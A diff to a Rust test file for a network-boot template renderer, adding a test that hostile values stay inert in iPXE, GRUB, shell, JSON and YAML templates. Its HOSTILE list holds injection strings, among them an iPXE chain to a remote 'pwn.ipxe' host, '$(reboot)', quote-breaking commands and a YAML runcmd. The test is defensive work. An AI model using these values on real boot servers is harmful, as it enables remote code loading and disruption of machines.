@@ -141,13 +141,17 @@ sleep 10
 exit"
     );
 
-    // A value that would end GRUB's quoting is refused, like a newline.
+    // A value that would end GRUB's quoting is encoded: it stays inside
+    // its quoted arguments.
     let mut quoted = context();
     if let Some(image) = quoted.image.as_mut() {
         image.cmdline = "console=ttyS0' ; reboot '".into();
     }
-    let err = r.render(MACHINE_GRUB, &quoted).unwrap_err().to_string();
-    assert!(err.contains("single quote"), "{err}");
+    let text = r.render(MACHINE_GRUB, &quoted).unwrap();
+    assert!(
+        text.contains(" 'console=ttyS0%27' '%3B' 'reboot' '%27' "),
+        "{text}"
+    );
 
     #[derive(serde::Serialize)]
     struct Urls {
@@ -178,7 +182,8 @@ fn ztp_files_render() {
     let ctx = context();
     let cumulus = r.render("ztp/cumulus.sh", &ctx).unwrap();
     assert!(cumulus.starts_with("#!/bin/bash\n# CUMULUS-AUTOPROVISIONING\n"));
-    assert!(cumulus.contains("\"http://10.77.0.1:8080/phone-home/tok123\""));
+    assert!(cumulus.contains("\nPHONE_HOME=http://10.77.0.1:8080/phone-home/tok123\n"));
+    assert!(cumulus.contains("\"$PHONE_HOME\""));
     let sonic: serde_json::Value =
         serde_json::from_str(&r.render("ztp/ztp.json", &ctx).unwrap()).unwrap();
     assert_eq!(
@@ -344,4 +349,192 @@ fn an_operator_directory_replaces_the_embedded_templates() {
         Renderer::from_dir(dir.path()),
         Err(RenderError::Missing(_))
     ));
+}
+
+/// The hostile strings of the boot-network issue, each rendered through
+/// every machine fact, group variable and reason into every template; the
+/// file must keep the structure it has with an ordinary value (no new
+/// command, line, key or quote), or the render must be refused.
+const HOSTILE: &[&str] = &[
+    "x\ntouch /tmp/P\n#",
+    "x ; chain http://198.51.100.66/pwn.ipxe ; #",
+    "$(reboot)",
+    "`id`",
+    "' ; reboot ; '",
+    "\"}, \"x\": \"",
+    "${net0/mac}",
+    "a || shell",
+    "a && shell",
+    "# comment",
+    "\u{0}",
+    "\r\n",
+    "{{ 7*7 }}",
+    "#cloud-config",
+    "key: value\nruncmd: [reboot]",
+    "key: value",
+    "- item",
+    "--- !!python/object",
+    "\\",
+    "☃",
+    "it's",
+];
+
+/// A context whose every client- or operator-written string is `v`.
+fn hostile_context(v: &str) -> BootContext {
+    let mut ctx = context();
+    ctx.machine.hostname = v.into();
+    ctx.machine.serial = Some(v.into());
+    ctx.machine.uuid = Some(v.into());
+    ctx.machine.arch = Some(v.into());
+    ctx.machine.platform = Some(v.into());
+    ctx.machine.labels = BTreeMap::from([("rack".to_string(), v.to_string())]);
+    ctx.group.vars = serde_json::json!({ "ntp": v });
+    ctx.reason = Some(v.into());
+    ctx
+}
+
+/// The structure of a rendered file in its language: what a hostile value
+/// must not change.
+fn structure(language: Language, text: &str) -> Result<String, String> {
+    match language {
+        Language::Json => {
+            let v: serde_json::Value = serde_json::from_str(text).map_err(|e| e.to_string())?;
+            Ok(shape_json(&v))
+        }
+        Language::Yaml => {
+            use saphyr::LoadableYamlNode;
+            let docs = saphyr::Yaml::load_from_str(text).map_err(|e| e.to_string())?;
+            let shapes: Vec<String> = docs.iter().map(shape_yaml).collect();
+            Ok(format!("{} docs: {}", docs.len(), shapes.join(" | ")))
+        }
+        Language::Ipxe | Language::Cmdline => Ok(text
+            .lines()
+            .map(|line| {
+                let words: Vec<&str> = line.split_whitespace().collect();
+                let comment = words.iter().position(|w| w.starts_with('#'));
+                let code = &words[..comment.unwrap_or(words.len())];
+                let terminators = code
+                    .iter()
+                    .filter(|w| matches!(**w, ";" | "||" | "&&"))
+                    .count();
+                let expansions = code.iter().map(|w| w.matches("${").count()).sum::<usize>();
+                format!("{terminators}/{comment:?}/{expansions}")
+            })
+            .collect::<Vec<_>>()
+            .join("\n")),
+        Language::Grub | Language::Shell | Language::Text => Ok(text
+            .lines()
+            .map(|line| {
+                // Outside single quotes, the characters that make structure.
+                let (mut quoted, mut specials) = (false, String::new());
+                for c in line.chars() {
+                    match c {
+                        '\'' => quoted = !quoted,
+                        c if !quoted && ";|&$`<>\"\\#".contains(c) => specials.push(c),
+                        _ => {}
+                    }
+                }
+                format!("{specials}{}", if quoted { " unbalanced" } else { "" })
+            })
+            .collect::<Vec<_>>()
+            .join("\n")),
+    }
+}
+
+fn shape_json(v: &serde_json::Value) -> String {
+    match v {
+        serde_json::Value::Object(m) => {
+            let fields: Vec<String> = m
+                .iter()
+                .map(|(k, v)| format!("{k}:{}", shape_json(v)))
+                .collect();
+            format!("{{{}}}", fields.join(","))
+        }
+        serde_json::Value::Array(a) => {
+            format!(
+                "[{}]",
+                a.iter().map(shape_json).collect::<Vec<_>>().join(",")
+            )
+        }
+        _ => "v".into(),
+    }
+}
+
+fn shape_yaml(v: &saphyr::Yaml) -> String {
+    match v {
+        saphyr::Yaml::Mapping(m) => {
+            let fields: Vec<String> = m
+                .iter()
+                .map(|(k, v)| format!("{}:{}", k.as_str().unwrap_or("?"), shape_yaml(v)))
+                .collect();
+            format!("{{{}}}", fields.join(","))
+        }
+        saphyr::Yaml::Sequence(a) => {
+            format!(
+                "[{}]",
+                a.iter().map(shape_yaml).collect::<Vec<_>>().join(",")
+            )
+        }
+        _ => "v".into(),
+    }
+}
+
+#[test]
+fn hostile_values_are_inert_in_every_template() {
+    let r = Renderer::embedded().unwrap();
+    let templates: Vec<String> = r.names();
+    let mut checked = 0;
+    for name in &templates {
+        let language = Language::of(name);
+        let shaped = |ctx: BootContext| -> Option<Result<String, String>> {
+            let mut ctx = ctx;
+            if name.contains("nothing") {
+                ctx.generation = None;
+                ctx.image = None;
+            }
+            r.render(name, &ctx).ok().map(|t| structure(language, &t))
+        };
+        let want = shaped(hostile_context("ordinary"))
+            .unwrap_or_else(|| panic!("{name} renders with ordinary values"))
+            .unwrap_or_else(|e| panic!("{name} parses with ordinary values: {e}"));
+        for v in HOSTILE {
+            match shaped(hostile_context(v)) {
+                None => {} // refused: the machine is told the render failed
+                Some(Ok(got)) => assert_eq!(got, want, "{name} ({language:?}) with {v:?}"),
+                Some(Err(e)) => panic!("{name} with {v:?} no longer parses: {e}"),
+            }
+            checked += 1;
+        }
+    }
+    // And an image command line, as iPXE and GRUB both receive it.
+    for v in HOSTILE {
+        let ctx = hostile_context(v);
+        let template = "console=ttyS0 host={{ machine.hostname }} s={{ machine.serial }}";
+        if let Ok(line) = r.render_cmdline(template, &ctx) {
+            assert_eq!(
+                line.split(' ').count(),
+                3,
+                "{v:?} stays inside its arguments: {line}"
+            );
+            assert!(!line.contains("${") && !line.contains('#'), "{line}");
+        }
+        checked += 1;
+    }
+    assert!(checked > 150, "{checked}");
+}
+
+#[test]
+fn yaml_values_read_back_exactly() {
+    use saphyr::LoadableYamlNode;
+    let r = Renderer::embedded().unwrap();
+    let values = HOSTILE
+        .iter()
+        .copied()
+        .chain(["node1", "true", "web-01.lab"])
+        .filter(|v| !v.is_empty());
+    for v in values {
+        let text = r.render("config/meta-data", &hostile_context(v)).unwrap();
+        let docs = saphyr::Yaml::load_from_str(&text).unwrap();
+        assert_eq!(docs[0]["local-hostname"].as_str(), Some(v), "{text}");
+    }
 }
